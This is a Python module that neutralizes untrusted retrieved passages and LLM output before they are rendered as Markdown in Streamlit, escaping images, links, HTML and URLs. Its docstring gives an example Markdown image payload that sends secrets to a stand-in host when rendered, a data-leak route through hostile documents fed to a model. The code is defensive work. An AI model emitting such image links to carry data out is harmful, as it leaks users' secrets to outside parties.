"""Untrusted text (retrieved passages, LLM output) made safe to render as Markdown.

A hostile document can carry ``![x](http://host/leak?d=secret)``: rendered, the browser
would fetch that URL and leak whatever the model put in it. We keep Markdown's emphasis,
lists and code, but escape the characters that build images, links and raw HTML, and put
bare URLs in code spans (GitHub-flavoured Markdown would turn them into live links), so
all of it shows as text and nothing is fetched.

Streamlit's Markdown also rewrites text that no escape protects: its typographic symbols
(``<-`` becomes an arrow, ``>=`` a sign, ``--`` a dash), emoji shortcodes (``:tada:``) and
colored text (``:red[…]``). A quoted R command ``HousePrice <- read.table(…)`` showed an
arrow that R does not read. Such words go in code spans, which show them as written; the
code spans a text already has are kept as they are (escaping inside one showed the
backslashes).
"""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import PurePath

# characters that open images/links ([ ]), raw HTML (< >), escapes (\) or, left alone by
# the code spans, a code span that would swallow the escapes after it (`)
_ESCAPE = re.compile(r"([\\\[\]<>`])")
_HEADING = re.compile(r"(?m)^([ \t]{0,3})(#{1,6})(?=[ \t]|$)")
URL = re.compile(r"(?i)\b(?:[a-z][a-z0-9+.-]{1,15}://|www\.)[^\s<>\[\]()\"'`]+")
# a code span: a run of backticks, then text, then a run of the same length (CommonMark)
_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", re.DOTALL)
# a word that Streamlit would rewrite, escaped or not (see above)
_REWRITTEN = re.compile(
    r"\S*(?:<->|<-|->|<=|>=|~=|--|:[a-z_+-][a-z0-9_+-]*:|:[a-z]+(?:-background|-badge)?\[)\S*"
)


def neutralize_markdown(text: str) -> str:
    """Markdown that renders as the same words, with no live image, link or HTML."""
    return _split(text, _CODE_SPAN, lambda span: span, _outside_code)  # a span shows as written


def code_span(text: str) -> str:
    """``text`` as a Markdown code span, whatever backticks it holds."""
    fence = "`" * (max((len(run) for run in re.findall(r"`+", text)), default=0) + 1)
    pad = " " if text[:1] == "`" or text[-1:] == "`" else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _outside_code(text: str) -> str:
    return _split(text, URL, code_span, _words)


def _words(text: str) -> str:
    return _split(text, _REWRITTEN, code_span, _escape)


def _split(
    text: str, pattern: re.Pattern[str], found: Callable[[str], str], rest: Callable[[str], str]
) -> str:
    """``text`` with each match of ``pattern`` passed through ``found`` and what lies
    between them through ``rest``."""
    parts: list[str] = []
    last = 0
    for match in pattern.finditer(text):
        parts.append(rest(text[last : match.start()]))
        parts.append(found(match.group(0)))
        last = match.end()
    parts.append(rest(text[last:]))
    return "".join(parts)


def code_span_name(source: str) -> str:
    """The file name of ``source`` for a Markdown code span (which shows it as text): a
    backtick in the name would end the span early."""
    return PurePath(source).name.replace("`", "'")


def _escape(text: str) -> str:
    escaped = _ESCAPE.sub(r"\\\1", text)
    # a quoted document's "# Title" should read as text, not become a page heading
    escaped = _HEADING.sub(lambda m: m.group(1) + "\\" + m.group(2), escaped)
    # "!" before an escaped "[" can no longer start an image; escape it for good measure
    return escaped.replace("!\\[", "\\!\\[")
